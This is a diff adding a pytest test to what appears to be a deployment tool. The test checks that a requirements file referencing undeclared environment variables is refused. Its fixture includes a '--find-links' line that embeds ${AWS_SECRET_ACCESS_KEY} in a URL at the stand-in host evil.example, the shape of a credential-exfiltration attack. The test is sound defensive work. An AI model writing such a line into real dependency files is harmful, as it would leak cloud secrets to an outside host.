@@ -793,6 +793,26 @@ def test_hosts_share_a_check_of_their_source_by_all_that_it_reads(project: Path)
     assert noting.read == {*READ, "env", "env.PYTHONPATH"}
 
 
+def test_the_source_has_no_variable_that_no_setting_gives_it(
+    project: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for name in ("AWS_SECRET_ACCESS_KEY", "TOKEN"):
+        monkeypatch.setenv(name, "a secret")
+    (project / "requirements.txt").write_text("tiny\n-r more.txt\n")
+    (project / "more.txt").write_text(
+        "# An index.\n--index-url https://${TOKEN}:${PASS}@pypi.example\n"
+        "--find-links https://evil.example/${AWS_SECRET_ACCESS_KEY}/\n"
+    )
+    data = {"source": str(project), "build_env": ["TOKEN"], "env": {"PASS": "of the site"}}
+    assert refusal({"web1": data}) == [
+        'web1: requirements = "requirements.txt": more.txt:3 asks for ${AWS_SECRET_ACCESS_KEY}, '
+        'which no setting gives it; set env["AWS_SECRET_ACCESS_KEY"], or add '
+        '"AWS_SECRET_ACCESS_KEY" to build_env'
+    ]
+    data["build_env"] = ["TOKEN", "AWS_SECRET_ACCESS_KEY"]
+    load_all({"web1": data})
+
+
 def test_hosts_that_differ_in_it_do_not_share_it(project: Path) -> None:
     data = {"source": str(project), "files": {"media/logo.svg": "<svg/>"}, "migrate": "each"}
     hosts = {"web1": data, "web2": {**data, "media_root": "media", "ssh_hostname": "x"}}
